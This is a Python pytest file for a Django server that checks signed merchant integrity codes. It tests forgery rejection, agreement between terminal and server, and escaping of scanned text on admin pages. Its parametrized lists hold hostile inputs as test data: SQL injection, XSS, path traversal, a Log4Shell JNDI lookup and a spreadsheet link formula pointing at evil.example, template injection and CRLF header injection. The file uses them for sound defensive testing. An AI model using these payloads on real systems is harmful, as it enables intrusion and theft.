"""Attacks by codes on the server: no forged one is genuine, terminal and server say the same, and
what was in a code reaches the office's pages as text."""

import base64
import html
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from random import Random
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from nacl.signing import SigningKey as Signer

from kiosk.queries.verdict import CodeLists, verify_short_form, verify_text
from server.changes.models import Change
from server.ingest.models import AppliedOp
from server.merchants import services
from server.merchants.models import IntegrityCode, MerchantScan
from server.merchants.services.code_verdict import verdict_on_payload, verdict_on_short_form
from server.radar.models import Alarm
from server.stations.models import Station
from sync.events.entities.integrity_code import IssuedCode
from sync.events.entities.signing_key import SigningKey
from sync.events.integrity_code import ALPHABET, code_text, serial_from_number, short_form
from tests.server.areas import make_district, make_merchant, make_station
from tests.server.terminal import Terminal

pytestmark = pytest.mark.django_db

TODAY = date(2026, 5, 4)
RANDOM_CODES = 10_000
PREFIX = "HTTPS://A.CN/C/"


@pytest.fixture
def code(station: Station) -> IntegrityCode:
    services.create_signing_key(district=station.district)
    return services.issue_code(
        merchant=make_merchant(station), issued=date(2026, 1, 1), expires=date(2026, 12, 31)
    )


@pytest.fixture
def lists(code: IntegrityCode) -> CodeLists:
    """What a terminal was given."""
    rows = Change.objects.filter(type="signing_key").values_list("body", flat=True)
    keys = {row["key_no"]: SigningKey(**row) for row in rows}
    listed = IssuedCode(
        serial=code.serial,
        merchant_id=code.merchant_id,
        key_no=code.key.key_no,
        issued=code.issued,
        expires=code.expires,
    )
    return CodeLists(
        district_no=code.district.number,
        code_prefix=PREFIX,
        keys=keys,
        codes={code.serial: listed},
        fetched_at=code.created_at,
        stale=False,
    )


Both = Callable[[str], str]


@pytest.fixture
def both(lists: CodeLists) -> Both:
    """The verdict of terminal and server on one payload. What is no code at all is damaged for
    the terminal, which is shown a whole address, and unreadable for the server."""

    def say(payload: str) -> str:
        at_terminal = verify_text(PREFIX + payload, lists=lists, today=TODAY)
        at_server = verdict_on_payload(payload, today=TODAY).verdict
        if at_terminal.reason == "damaged":
            assert at_server == "unreadable"
        else:
            assert at_server == at_terminal.verdict
        return at_terminal.verdict

    return say


def encoded(raw: bytes) -> str:
    return base64.b32encode(raw).decode().rstrip("=")


def raw_of(code: IntegrityCode) -> bytes:
    plain = code.text.removeprefix(PREFIX)
    return base64.b32decode(plain + "=" * (-len(plain) % 8))


def test_the_code_that_is_attacked_is_genuine_for_both(code: IntegrityCode, both: Both) -> None:
    assert both(encoded(raw_of(code))) == "genuine"


def test_every_flipped_bit_is_refused_by_both(code: IntegrityCode, both: Both) -> None:
    raw = raw_of(code)
    for place in range(len(raw) * 8):
        at, bit = divmod(place, 8)
        flipped = bytes([*raw[:at], raw[at] ^ 1 << bit, *raw[at + 1 :]])
        assert both(encoded(flipped)) in ("forged", "foreign_district"), place


def test_ten_thousand_random_payloads_are_refused_by_both(code: IntegrityCode, both: Both) -> None:
    random, raw = Random(11), raw_of(code)
    seen = set()
    for number in range(RANDOM_CODES):
        kept = (0, 1, 3, 4, 37)[number % 5]
        seen.add(both(encoded(raw[:kept] + random.randbytes(len(raw) - kept))))
    assert seen <= {"forged", "foreign_district"}


def test_ten_thousand_random_short_forms_are_known_to_neither(
    code: IntegrityCode, lists: CodeLists
) -> None:
    random = Random(12)
    for number in range(RANDOM_CODES):
        typed = "".join(random.choices(ALPHABET, k=10))
        if number % 10 == 0:
            typed = short_form(serial_from_number(random.getrandbits(40)))
        at_server = verdict_on_short_form(typed, today=TODAY).verdict
        at_terminal = verify_short_form(typed, lists=lists, today=TODAY)
        assert at_server == at_terminal.verdict == "unknown"


def test_other_keys_and_other_districts_sign_nothing_for_both(
    code: IntegrityCode, both: Both
) -> None:
    stranger = make_district(2)
    services.create_signing_key(district=stranger)
    foreign = services.issue_code(
        merchant=make_merchant(make_station(stranger)),
        issued=date(2026, 1, 1),
        expires=date(2026, 12, 31),
    )
    other = Signer(b"x" * 32)
    for changed in (code.payload, replace(code.payload, key_no=9)):
        signature = other.sign(changed.signed_bytes()).signature
        assert both(code_text(changed, signature, prefix="")) == "forged"
    moved = replace(foreign.payload, district_no=code.district.number)
    assert both(code_text(moved, base64.b64decode(foreign.signature), prefix="")) == "forged"


def test_a_code_of_another_district_of_this_server_is_not_ours_on_the_terminal(
    code: IntegrityCode, lists: CodeLists
) -> None:
    stranger = make_district(2)
    services.create_signing_key(district=stranger)
    foreign = services.issue_code(
        merchant=make_merchant(make_station(stranger)),
        issued=date(2026, 1, 1),
        expires=date(2026, 12, 31),
    )
    payload = foreign.text.removeprefix(stranger.code_prefix)
    said = verify_text(PREFIX + payload, lists=lists, today=TODAY)
    assert said.verdict == "foreign_district"


@pytest.mark.parametrize(
    "payload",
    [
        "",
        "A",
        "A" * 162,
        "a" * 162,
        "=" * 8,
        "A" * 100_000,
        "\0",
        "\x00" * 162,
        "'; DROP TABLE merchants_integritycode; --",
        "../../etc/passwd",
        "%00",
        "%2e%2e/",
        "<script>alert(1)</script>",
        "\u202e" + "A" * 161,
        "A" * 80 + "\u200b" + "A" * 81,
        "А" * 162,
        "\ud800",
        "\U000e0041" * 162,
        "诚信".encode("gbk").decode("latin-1"),
        "誠信".encode("big5").decode("latin-1"),
        "诚信".encode("gbk").decode("utf-8", "surrogateescape"),
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
    ],
)
def test_odd_payloads_are_no_code_and_raise_nothing(both: Both, payload: str) -> None:
    assert both(payload) == "forged"
    assert verdict_on_short_form(payload, today=TODAY).verdict == "unknown"


def scan(terminal: Terminal, text: str, verdict: str = "forged") -> dict[str, Any]:
    body = {"verdict": verdict, "way": "camera", "text": text}
    return terminal.op(body, kind="merchant.scanned")


def page(office: Client, name: str, *args: Any) -> str:
    reply = office.get(reverse(name, args=args))
    assert reply.status_code == 200
    return reply.content.decode()


HOSTILE = [
    "<script>alert(document.domain)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR 1=1; DROP TABLE merchants_merchantscan; --",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "javascript:alert(1)",
    "</textarea></script><svg/onload=alert(1)>",
    "&lt;b&gt;&#x27;&amp;",
    "%s %(x)s %n {0}",
    '=HYPERLINK("http://evil.example")',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_was_in_a_code_is_text_on_every_page_of_the_office(
    office: Client, terminal: Terminal, text: str
) -> None:
    assert terminal.push(scan(terminal, text), scan(terminal, text)).outcomes == ["applied"] * 2
    kept, alarm = MerchantScan.objects.all()[0], Alarm.objects.get()
    assert kept.text == alarm.text == text
    pages = [
        page(office, "admin:merchants_merchantscan_change", kept.pk),
        page(office, "admin:ingest_appliedop_change", AppliedOp.objects.all()[0].pk),
        page(office, "admin:radar_alarm_change", alarm.pk),
        page(office, "admin:radar_alarm_handle", alarm.pk),
        page(office, "admin:radar_alarm_changelist"),
        page(office, "admin:merchants_merchantscan_changelist"),
        page(office, "radar"),
    ]
    escaped = html.escape(text)
    for shown in pages:
        assert text not in shown.replace(escaped, "") or text == escaped
    assert escaped in pages[0]
    assert escaped in pages[2]
    assert MerchantScan.objects.count() == 2


TRICKS = [
    "\u202egnihtemos\u202c",
    "\u200b\u200c\u200d\ufeff\u2060",
    "e\u0301\u0336" * 40,
    "\u2066\u2067\u2069",
    "𝐇𝐓𝐓𝐏𝐒",
    "ＨＴＴＰＳ",
    "НТТРЅ",
    "👻👩‍👩‍👧‍👦🏳️‍🌈",
    "\U000e0041\U000e007f",
    "\ue000\U0010fffd",
    "\x1b[31m\x07\x08",
    "\r\nSet-Cookie: a=b",
    "\u2028\u2029\x85",
    "诚信".encode("gbk").decode("latin-1"),
    "誠信".encode("big5").decode("latin-1"),
    "\ufffe\uffff",
]


@pytest.mark.parametrize("text", TRICKS)
def test_every_trick_of_unicode_is_a_fact_that_the_office_can_open(
    office: Client, terminal: Terminal, text: str
) -> None:
    """Also in a run, where PostgreSQL is handed the rows as JSON."""
    assert terminal.push(scan(terminal, text), scan(terminal, text)).outcomes == ["applied"] * 2
    alarm = Alarm.objects.get()
    assert (alarm.count, alarm.text) == (2, text)
    page(office, "admin:radar_alarm_change", alarm.pk)
    page(office, "radar")


@pytest.mark.parametrize("text", ["a\x00b", "\x00", "x" * 513, "\\ud800"])
def test_what_no_terminal_sends_is_answered_and_alarms_nobody(
    terminal: Terminal, text: str
) -> None:
    """NUL, too long; and the rest of its batch goes on."""
    reply = terminal.push(scan(terminal, "fine"), scan(terminal, text), scan(terminal, "fine"))
    first, odd, last = reply.outcomes
    assert (first, last) == ("applied", "applied")
    assert odd in ("rejected", "applied")
    assert Alarm.objects.get(text="fine").count == 2
    assert Alarm.objects.count() == (1 if odd == "rejected" else 2)


def test_a_lone_surrogate_is_answered_for_good(terminal: Terminal) -> None:
    raw = scan(terminal, "MARK")
    assert terminal.push({**raw, "body": {**raw["body"], "text": "\ud800"}}).outcomes in (
        ["rejected"],
        ["retry"],
    )
    assert not Alarm.objects.exists()


NAMES = [*TRICKS[:10], *HOSTILE[:6]]


@pytest.mark.parametrize("name", NAMES)
def test_a_merchants_name_changes_no_verdict_and_no_page(
    office: Client, station: Station, name: str
) -> None:
    services.create_signing_key(district=station.district)
    shop = make_merchant(station, name=name[:80])
    code = services.issue_code(merchant=shop, issued=date(2026, 1, 1), expires=date(2026, 12, 31))
    payload = code.text.removeprefix(PREFIX)
    assert verdict_on_payload(payload, today=TODAY).verdict == "genuine"
    shown = page(office, "radar")
    assert html.escape(name[:80]) in shown
    if "<" in name:
        assert name[:80] not in shown
